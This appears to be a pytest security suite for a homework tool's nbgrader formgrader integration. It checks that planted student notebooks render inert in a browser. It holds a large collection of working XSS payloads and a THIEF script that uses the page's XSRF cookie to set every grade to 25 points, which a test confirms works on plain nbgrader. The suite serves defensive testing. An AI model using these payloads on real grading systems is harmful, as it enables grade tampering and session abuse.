"""What an instructor opens is inert: planted submissions in formgrader, seen by a real browser.

Each payload that acts leaves its name in ``window.hits``, or asks the canary, a server on another
port; one gives every answer of the submission 25 points through nbgrader's interface. The same
notebooks are shown by nbgrader alone as well, where they act: so we know that the test can see it.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import nbformat
import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

pytest.importorskip("nbgrader", reason="grading needs nbgrader")

from support.course import RIGHT, answers, in_this_process, submission, write_course
from support.grading import NOISE
from support.web import Visit, reader

from homework import child_process, feedback, ledger, marking, rehearsal, sandbox, sanitize
from homework.__main__ import main
from homework.assignments import load
from homework.gradebook import Desk
from homework.run import CellResult, Executed

# All of them ask the server, which those with a browser need.
pytestmark = [*NOISE, pytest.mark.browser]

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
CANARY = "http://CANARY"
"""Stands for the address of the canary until it is known."""


def hit(name: str) -> str:
    """JavaScript that says it ran, without quotation marks of either kind but backticks."""
    return f"(window.hits=window.hits||[]).push(`{name}`)"


THIEF = """
const id = location.pathname.split('/')[3], root = location.origin + '/formgrader/api/';
const token = document.cookie.match('_xsrf=([^;]*)')?.[1];
fetch(root + 'grades?submission_id=' + id).then((reply) => reply.json()).then((grades) => {
  for (const grade of grades)
    fetch(root + 'grade/' + grade.id, {
      method: 'PUT', headers: { 'X-XSRFToken': token, 'Content-Type': 'application/json' },
      body: JSON.stringify({ manual_score: 25, extra_credit: 0 }),
    });
});
"""

MARKDOWN = {
    "script": f"<script>{hit('script')}</script>",
    "script of another host": f'<script src="{CANARY}/script.js"></script>',
    "thief": f'<img src="x" onerror="{" ".join(THIEF.split())}">',
    "img": f'<img src=x onerror="{hit("img")}">',
    "img inline": f'text <img src=x onerror="{hit("img inline")}"> text',
    "svg": f'<svg onload="{hit("svg")}"></svg>',
    "nested": f"<svg><style><img src=x onerror='{hit('nested')}'></style></svg>",
    "math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title=\"--&gt;&lt;img src=1 onerror='{hit('math')}'&gt;\">"
    ),
    "details": f'<details open ontoggle="{hit("details")}">x</details>',
    "autofocus": f'<input autofocus onfocus="{hit("autofocus")}">',
    "media": f'<video><source onerror="{hit("media")}"></video>',
    "marquee": f'<marquee onstart="{hit("marquee")}">x</marquee>',
    "bare element": f'<b onmouseover="{hit("bare element")}">touch me</b>',
    "iframe": f'<iframe src="{CANARY}/iframe"></iframe>',
    "srcdoc": (
        '<iframe srcdoc="<script>(parent.hits=parent.hits||[]).push(`srcdoc`)</script>"></iframe>'
    ),
    "object": f'<object data="{CANARY}/object"></object><embed src="{CANARY}/embed">',
    "picture": f"![x]({CANARY}/picture.png)",
    "picture of html": f'<img src="{CANARY}/html.png" srcset="{CANARY}/set.png 2x">',
    "picture of this host": "![x](/logout)",
    "style sheet": f'<link rel="stylesheet" href="{CANARY}/style.css">',
    "style": f"<style>body {{ background: url({CANARY}/style.png) }}</style>",
    "style attribute": (
        f'<p style="position: fixed; inset: 0; z-index: 9; background: url({CANARY}/p.png)">x</p>'
    ),
    "form": (f'<form action="{CANARY}/form"><button class="full-credit">x</button></form>'),
    "button": '<a class="full-credit">planted button</a>',
    "name": '<div id="q4-answer">a false field</div><a id="statusmessage" name="location">x</a>',
    "bootstrap": '<a data-toggle="tooltip" data-html="true" data-link="x" title="<b>x">x</a>',
    "template": f"<template><img src=x onerror='{hit('template')}'></template>",
    "comment": f"<!--><img src=x onerror='{hit('comment')}'>-->",
    "link": f"[planted](javascript:{hit('link')})",
    "link of entities": f"[planted](java&#115;cript:{hit('link of entities')})",
    "link of html": f'<a href="java&Tab;script:{hit("link of html")}">planted</a>',
    "link by reference": f"[planted][r]\n\n[r]: javascript:{hit('link by reference')}",
    "link of data": "[planted](data:text/html,<script>alert(1)</script>)",
    "link to this host": "[planted](/formgrader/manage_students/%22;x//)",
    "autolink": f"<javascript:{hit('autolink')}>",
    "fence": f'```"><img src=x onerror="{hit("fence")}">\nx\n```',
    "mermaid": f"```mermaid\n</pre><img src=x onerror='{hit('mermaid')}'>\n```",
    "formula": f"$x</script><img src=x onerror='{hit('formula')}'>$",
    "formula's link": rf"$\href{{javascript:{hit('href')}}}{{planted}}$",
    "formula's element": (
        rf"$\require{{html}}\cssId{{q4-answer}}{{x}}\class{{full-credit}}{{y}}"
        rf"\style{{position:fixed;background:url({CANARY}/tex.png)}}{{z}}$"
    ),
    "formula's token": f'$\\mmlToken{{mi}}[href="javascript:{hit("token")}" id="q4-answer"]{{x}}$',
    "attachment": "![planted](attachment:planted.svg) ![none](attachment:none.png)",
    "deep": ">" * 3000 + "x",
    "base": f'<base href="{CANARY}/base/">',
}
"""Markdown by what it tries."""

LEAVES = f'<meta http-equiv="refresh" content="0; url={CANARY}/refresh">'
"""Takes the page away: by itself, for nothing else could be seen after it."""

SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{hit("svg output")}"></svg>'


def _shown(kind: str, data: Any, **metadata: Any) -> NotebookNode:
    return new_output("display_data", data={kind: data, "text/plain": "as text"}, metadata=metadata)


OUTPUTS = [
    _shown("text/html", f"<script>{hit('html output')}</script>"),
    _shown("text/html", f"<script>{hit('isolated')}</script>", **{"text/html": {"isolated": True}}),
    _shown("application/javascript", hit("javascript output")),
    _shown("image/svg+xml", SVG),
    _shown("text/markdown", f'<img src=x onerror="{hit("markdown output")}">'),
    _shown("text/latex", f'<img src=x onerror="{hit("latex output")}">'),
    _shown("text/vnd.mermaid", f'<img src=x onerror="{hit("mermaid output")}">'),
    _shown("application/pdf", "JVBERi0="),
    _shown(
        "application/vnd.jupyter.widget-view+json",
        {"model_id": f"</script><img src=x onerror='{hit('widget')}'>", "version_major": 2},
    ),
    _shown("image/png", PIXEL, **{"image/png": {"width": f"1 onload={hit('width')}"}}),
    _shown("image/png", PIXEL, filenames={"image/png": f"{CANARY}/filename.png"}),
    _shown("image/png", f'"><img src=x onerror="{hit("png output")}">'),
    new_output("stream", text=f'\x1b[31m<img src=x onerror="{hit("stream")}">\x1b[0m\n'),
    new_output(
        "error",
        ename=f'<img src=x onerror="{hit("ename")}">',
        evalue=f'<img src=x onerror="{hit("evalue")}">',
        traceback=[f'\x1b[31m<img src=x onerror="{hit("traceback")}">\x1b[0m'],
    ),
]

HONEST = r"""A **bold** word, a formula $a<b \le \frac{1}{2}$, a link to <https://example.org/>,
and code:

```python
print(1 < 2)
```

| left | right |
|------|------:|
| 1    |     2 |

A picture ![of one point](attachment:point.png), water H<sub>2</sub>O, and x < y."""

NAMED = f"<img src=x onerror={hit('student')}>"
"""A student's id."""


@dataclass
class Server:
    """A Jupyter server with formgrader."""

    url: str
    course: Path
    canary: list[str]
    host: str

    def submission(self, student: str) -> str:
        with ledger.opened(Desk.of(self.course).url) as book:
            ident: str = book.find_submission_notebook("demo", "demo", student).id
        return f"/formgrader/submissions/{ident}/"

    def scores(self, student: str) -> dict[str, Any]:
        with ledger.opened(Desk.of(self.course).url) as book:
            lines = ledger.entries(book, student, "demo")[student, "demo"].lines
        return {cell: (line.auto, line.manual, line.extra) for cell, line in lines.items()}


def _planted(text: str, host: str) -> str:
    """A notebook with every payload that Markdown has room for, and what else a student can set."""
    notebook = nbformat.reads(text, as_version=4)
    answer = next(cell for cell in notebook.cells if cell.id == "q4-answer")
    svg = {"image/svg+xml": "PHN2Zy8+", "text/html": "PGI+"}
    answer["attachments"] = {"planted.svg": svg}
    own = [new_markdown_cell(text) for text in MARKDOWN.values()]
    own += [new_raw_cell(f'<img src=x onerror="{hit("raw")}">'), new_code_cell("planted = 1")]
    for cell in own:
        cell["metadata"]["tags"] = [f'"><img src=x onerror="{hit("tag")}">']
        if cell["cell_type"] == "markdown":
            cell["attachments"] = {"planted.svg": svg}
    own[-2]["metadata"]["raw_mimetype"] = "text/html"
    notebook.cells += own
    evil = f'"><script>{hit("metadata")}</script>'
    notebook.metadata["title"] = evil
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": evil,
        "language": "python",
    }
    notebook.metadata["language_info"] = {"name": "python", "pygments_lexer": evil}
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {evil: evil}, "version_major": 2}
    }
    written: str = nbformat.writes(notebook)
    return written.replace(CANARY, host)


def _run(notebook: NotebookNode, *_: Any, **__: Any) -> Executed:
    """In the place of the sandbox: a program can put out anything."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            planted = cell["source"] == "planted = 1" or "planted" in RIGHT.get(cell["id"][:2], "")
            cell["outputs"] = [nbformat.from_dict(output) for output in OUTPUTS] if planted else []
    return Executed(notebook, {c["id"]: CellResult("ok") for c in notebook["cells"]}, ())


def _course(folder: Path, host: str) -> Path:
    """A graded course: honest ada; eve, who plants all she can; mallory, who got around grading."""
    course = write_course(folder)
    assignment = load("demo", course)
    honest = nbformat.reads(submission(assignment, answers(q4=HONEST)), as_version=4)
    written = next(cell for cell in honest.cells if cell.id == "q4-answer")
    written["attachments"] = {"point.png": {"image/png": PIXEL}}
    planted = submission(assignment, answers(q4="\n\n".join(MARKDOWN.values())))
    leaving = submission(assignment, answers(q4=LEAVES.replace(CANARY, host)))
    texts = {
        "ada": nbformat.writes(honest),
        "eve": _planted(planted, host),
        "mallory": planted,
        "leo": leaving,
        NAMED: leaving,
    }
    for student, text in texts.items():
        path = course / "submitted" / student / "demo" / "demo.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(text, encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(marking, "run", _run)
        patch.setattr(child_process, "call", in_this_process)
        patch.setattr(sandbox, "check", lambda: None)
        patch.setattr(rehearsal, "rehearse", lambda *_: [])
        assert main(["grade", "--course", str(course), "--shards", "1"]) == 0
    notebook = nbformat.reads(_planted(planted, host), as_version=4)
    for cell in notebook.cells[-1:]:
        cell["outputs"] = json.loads(json.dumps(OUTPUTS).replace(CANARY, host))
    stored = course / "autograded" / "mallory" / "demo" / "demo.ipynb"
    stored.chmod(0o644)
    stored.write_text(json.dumps(notebook), encoding="utf-8")
    beside = stored.with_name("beside.html")
    beside.write_text(f"<script>{hit('beside')}</script><p>beside</p>", encoding="utf-8")
    return course


@contextmanager
def _canary() -> Iterator[tuple[str, list[str]]]:
    asked: list[str] = []

    class Canary(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def _server(course: Path, home: Path) -> Iterator[str]:
    """Run a Jupyter server in the course's folder, as ``make formgrader`` does, without the lab."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    unused = ("jupyterlab", "notebook", "notebook_shim", "jupyter_lsp", "jupyter_server_terminals")
    extensions = dict.fromkeys(unused, False)
    home.mkdir(exist_ok=True)
    command = [sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root"]
    command += [f"--port={port}", "--ServerApp.port_retries=0", "--IdentityProvider.token="]
    command += [f"--ServerApp.jpserver_extensions={extensions}", "--ip=127.0.0.1"]
    text = {f"JUPYTER_{name}_DIR": str(home) for name in ("CONFIG", "DATA", "RUNTIME")}
    url = f"http://127.0.0.1:{port}"
    with (home / "log").open("w") as log:
        process = subprocess.Popen(
            command, cwd=course, env=os.environ | text, stdout=log, stderr=subprocess.STDOUT
        )
        try:
            _await(url, process, home / "log")
            yield url
        finally:
            process.terminate()
            process.wait(10)


def _await(url: str, process: subprocess.Popen[bytes], log: Path) -> None:
    for _ in range(300):
        assert process.poll() is None, log.read_text("utf-8")
        try:
            urllib.request.urlopen(f"{url}/api", timeout=5).close()  # noqa: S310 - ours
        except OSError:
            time.sleep(0.1)
        else:
            return
    pytest.fail(log.read_text("utf-8"))


@pytest.fixture(scope="module")
def formgrader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("formgrader")
    with _canary() as (host, asked):
        course = _course(folder / "course", host)
        with _server(course, folder / "home") as url:
            yield Server(url, course, asked, host)


def _look(seen: Visit) -> list[str]:
    """Try every link and what else waits for a hand, and return what acted."""
    page = seen.page
    page.evaluate(
        """() => {
          for (const link of document.querySelectorAll("a, b"))
            if (/planted|touch/.test(link.textContent)) {
              link.dispatchEvent(new Event("mouseover", { bubbles: true }));
              if (!/^http/.test(link.href)) link.click();
            }
        }"""
    )
    page.wait_for_timeout(300)
    result: list[str] = page.evaluate("() => window.hits ?? []")
    return result


@pytest.mark.parametrize("student", ["eve", "mallory"])
def test_nothing_of_a_submission_acts_in_formgrader(
    formgrader: Server, visit: Callable[..., Visit], student: str
) -> None:
    """By grading's last step and the page; where grading was got around, by the page alone."""
    before = formgrader.scores(student)
    seen = visit(formgrader.url + formgrader.submission(student))
    page = seen.page
    assert _look(seen) == []
    assert page.url.startswith(formgrader.url + formgrader.submission(student))
    assert formgrader.canary == []
    assert seen.foreign(formgrader.url.removeprefix("http://")) == []
    assert not [url for url in seen.requests if "logout" in url or url.endswith("/x")]
    assert formgrader.scores(student) == before
    body = page.locator("#notebook-container").first
    for active in ("script", "iframe", "svg", "form", "style", "meta", "base", "link", "object"):
        assert body.locator(active).count() == 0, active
    assert body.locator("[onerror], [onload], [onclick], [data-toggle], [data-link]").count() == 0
    assert body.locator(".rendered_html :is([id], [name], .full-credit)").count() == 0
    assert page.locator("#q4-answer").count() == 1
    assert body.locator("mjx-container").count() > 1
    assert body.locator("mjx-container [href], .rendered_html [href^=java]").count() == 0
    # What was there is seen as text.
    assert "parent.hits" in body.inner_text()
    assert "as text" in body.inner_text()


ACT = [
    *("script", "img", "svg", "nested", "details", "autofocus", "media", "srcdoc", "comment"),
    *("fence", "mermaid", "link", "bare element", "html output", "javascript output"),
    *("markdown output", "width"),
]
ASKED = {
    *("/script.js", "/iframe", "/object", "/picture.png", "/filename.png", "/style.css"),
    *("/style.png", "/p.png"),
}
"""What acts in nbgrader's own page, and what it asks the canary."""


def test_the_same_submission_acts_where_nothing_is_done_about_it(
    formgrader: Server, tmp_path: Path, browser: Any
) -> None:
    """nbgrader alone: the payloads are live ones, and this file sees what they do."""
    alone = tmp_path / "course"
    shutil.copytree(formgrader.course, alone)
    (alone / "nbgrader_config.py").write_text(
        "c = get_config()\nc.CourseDirectory.course_id = 'dtviz'\n", encoding="utf-8"
    )
    stored = alone / "autograded" / "mallory" / "demo" / "demo.ipynb"
    # Of a picture that is missing it makes no page.
    stored.write_text(stored.read_text("utf-8").replace("none.png", "planted.svg"), "utf-8")
    with _server(alone, tmp_path / "home") as url, reader(browser, {}) as context:
        server = Server(url, alone, formgrader.canary, formgrader.host)
        # Its MathJax is on another host, which a test does not ask.
        context.route(lambda asked: "127.0.0.1" not in asked, lambda route: route.abort())
        page = context.new_page()
        seen = Visit(page)
        page.goto(url + server.submission("mallory"))
        _look(seen)
        page.wait_for_function("(all) => all.every((one) => window.hits.includes(one))", arg=ACT)
        for _ in range(100):
            if server.scores("mallory")["q4-answer"][1] == 25 and set(formgrader.canary) >= ASKED:
                break
            page.wait_for_timeout(100)
        assert server.scores("mallory")["q4-answer"][1] == 25
    asked = set(formgrader.canary)
    formgrader.canary.clear()
    assert asked >= ASKED


@pytest.mark.parametrize("student", ["leo", NAMED])
def test_a_page_is_not_left_and_a_name_is_text(
    formgrader: Server, visit: Callable[..., Visit], student: str
) -> None:
    seen = visit(formgrader.url + formgrader.submission(student))
    assert _look(seen) == []
    assert seen.page.url.startswith(formgrader.url)
    seen.page.locator(".glyphicon-eye-open").click()
    assert seen.page.locator(".name-shown").first.inner_text().strip() == student
    assert formgrader.canary == []


def test_a_name_in_an_address_is_text(formgrader: Server, visit: Callable[..., Visit]) -> None:
    for name in (f'";{hit("string")};//', f"</script><script>{hit('script')}</script>", NAMED):
        seen = visit(f"{formgrader.url}/formgrader/manage_students/{quote(name, safe='')}")
        assert _look(seen) == []
        assert seen.page.locator(".breadcrumb .active").inner_text() == name


def test_a_file_beside_a_submission_can_do_nothing(
    formgrader: Server, visit: Callable[..., Visit]
) -> None:
    seen = visit(formgrader.url + formgrader.submission("mallory") + "beside.html")
    assert seen.page.inner_text("p") == "beside"
    assert _look(seen) == []


def test_settings_that_are_handed_in_are_not_run(
    formgrader: Server, visit: Callable[..., Visit]
) -> None:
    """formgrader runs those of the folder that its address names: a link is enough."""
    result = "from pathlib import Path\nPath(__file__).with_name('ran').touch()\n"
    handed_in = formgrader.course / "submitted" / "eve" / "demo"
    (handed_in / "nbgrader_config.py").write_text(result, encoding="utf-8")
    seen = visit(f"{formgrader.url}/formgrader/?path={handed_in}")
    assert "403" in seen.page.content()
    assert not (handed_in / "ran").exists()
    seen = visit(f"{formgrader.url}/formgrader/?path={formgrader.course}")
    assert seen.page.url.endswith("/manage_assignments")


def test_every_page_of_formgrader_has_the_policy_and_works(
    formgrader: Server, tab: Callable[..., Visit]
) -> None:
    own = formgrader.url.removeprefix("http://")
    for address, shown in (
        ("manage_assignments", "demo"),
        ("manage_submissions/demo", "eve"),
        ("gradebook", "demo"),
        ("gradebook/demo", "demo"),
        ("gradebook/demo/demo", "Submission #1"),
        ("manage_students", "eve"),
        ("manage_students/eve", "demo"),
        ("manage_students/eve/demo", "demo"),
    ):
        seen = tab(f"{formgrader.url}/formgrader/{address}")
        seen.page.locator("#main-table td", has_text=shown).first.wait_for(timeout=60_000)
        assert _look(seen) == [], address
        assert [line for line in seen.complaints if "favicon" not in line] == [], address
        assert seen.foreign(own) == [], address
        answer = seen.page.request.get(f"{formgrader.url}/formgrader/{address}")
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'; script-src 'nonce-")
        assert "'unsafe-inline'" not in policy.partition("script-src")[2].partition(";")[0]


def test_an_honest_answer_is_shown_and_can_be_marked(
    formgrader: Server, visit: Callable[..., Visit]
) -> None:
    seen = visit(formgrader.url + formgrader.submission("ada"))
    page = seen.page
    panel = page.locator(".nbgrader_cell", has=page.locator("#q4-answer"))
    assert panel.locator("strong").inner_text() == "bold"
    assert panel.locator("mjx-container mjx-mfrac").count() == 1
    assert panel.locator("mjx-merror").count() == 0
    assert page.locator("mjx-container").count() > 1
    assert "print(1 < 2)" in panel.locator("pre").inner_text().replace("\N{WORD JOINER}", "")
    assert panel.locator("td").all_inner_texts() == ["1", "2"]
    assert panel.locator("img").evaluate("(img) => img.naturalWidth") == 1
    assert panel.locator("sub").inner_text() == "2"
    assert panel.locator("a").get_attribute("href") == "https://example.org/"
    assert [line for line in seen.complaints if "favicon" not in line] == []
    # The page's own buttons and fields.
    page.wait_for_function("() => MathJax.loaded && formgrader.grades.loaded")
    page.locator(".glyphicon-eye-open").click()
    assert page.locator(".name-shown").first.is_visible()
    with page.expect_response(lambda answer: "/api/grade/" in answer.url):
        page.fill("#q4-answer", "2.5")
        page.press("#q4-answer", "Tab")
    with page.expect_response(lambda answer: "/api/comment/" in answer.url):
        page.fill("#q4-answer-comment", "Good.")
        page.press("#q4-answer-comment", "Tab")
    assert formgrader.scores("ada")["q4-answer"][1] == 2.5
    with page.expect_response(lambda answer: "/api/grade/" in answer.url):
        panel.locator(".full-credit").click()
    assert formgrader.scores("ada")["q4-answer"][1] == 3


def test_what_is_stored_is_inert_and_has_the_grades_of_its_answers(formgrader: Server) -> None:
    auto = {line[0] for line in formgrader.scores("eve").values() if line[0] is not None}
    assert auto == {1.0, 2.0, 3.0}
    stored = formgrader.course / "autograded" / "eve" / "demo" / "demo.ipynb"
    notebook = nbformat.read(stored, as_version=4)
    nbformat.validate(notebook)
    assert set(notebook.metadata) == {"kernelspec", "language_info"}
    kinds = set()
    for cell in notebook.cells:
        assert cell.cell_type in ("code", "markdown")
        assert set(cell.metadata) <= {"deletable", "editable", "nbgrader"}
        assert cell.get("attachments", {}) == {}
        if cell.cell_type == "markdown":
            assert "<img" not in cell.source
            assert "<script" not in cell.source
        for output in cell.get("outputs", []):
            assert output.get("metadata", {}) == {}
            kinds |= set(output.get("data", {}))
    assert kinds == {"image/png", "text/plain"}
    honest = nbformat.read(
        formgrader.course / "autograded" / "ada" / "demo" / "demo.ipynb", as_version=4
    )
    written = next(cell for cell in honest.cells if cell.id == "q4-answer")
    assert written.source.replace("\N{WORD JOINER}", "") == HONEST
    assert written.attachments == {"point.png": {"image/png": PIXEL}}


@pytest.mark.parametrize("student", ["eve", "leo", "ada"])
def test_nothing_acts_in_feedback(
    formgrader: Server, visit: Callable[..., Visit], student: str
) -> None:
    page = feedback.page_path(formgrader.course, student, "demo")
    seen = visit(page.as_uri())
    assert _look(seen) == []
    assert seen.page.url.partition("#")[0] == page.as_uri()
    assert seen.foreign() == []
    assert formgrader.canary == []
    assert seen.page.locator("script, iframe, form, base, link, object").count() == 0
    assert seen.page.locator("meta[http-equiv]").count() == 1
    if student == "ada":
        assert seen.page.locator("strong", has_text="bold").count() == 1


def test_points_stand_in_their_heading_on_a_phone(
    formgrader: Server, visit: Callable[..., Visit]
) -> None:
    page = visit(feedback.page_path(formgrader.course, "ada", "demo").as_uri(), width=360).page
    for heading in page.locator("div.panel-primary > .panel-heading").all():
        outer, inner = heading.bounding_box(), heading.locator(".pull-right").bounding_box()
        assert outer is not None
        assert inner is not None
        assert inner["y"] + inner["height"] <= outer["y"] + outer["height"]
    assert page.evaluate("document.documentElement.scrollWidth") == 360


def test_a_text_without_end_is_shown_as_it_is() -> None:
    text = "<b>" * sanitize.RENDERED
    assert sanitize.markdown(text) == sanitize.written(text)
    assert "<b" not in sanitize.markdown(text)
    assert "onerror=" not in sanitize.markdown("> " * 900 + "<b onerror=1>")


def test_what_is_placed_is_not_moved() -> None:
    """A style could lay a text over the page's own, or hide a mark."""
    over = "position:fixed;top:0;text-align:right"
    assert sanitize.clean(f'<p style="{over}">a</p>') == "<p>a</p>"
    table = sanitize.clean(f'<table><tr><td style="{over}">a</td></tr></table>')
    assert "position" not in table
    assert "text-align:right" in table


def test_a_link_leads_nowhere_that_acts() -> None:
    for address in (
        "javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc",
        "x.html",
    ):
        assert "href" not in sanitize.clean(f'<a href="{address}">a</a>')
    assert 'href="https://example.org"' in sanitize.clean('<a href="https://example.org">a</a>')
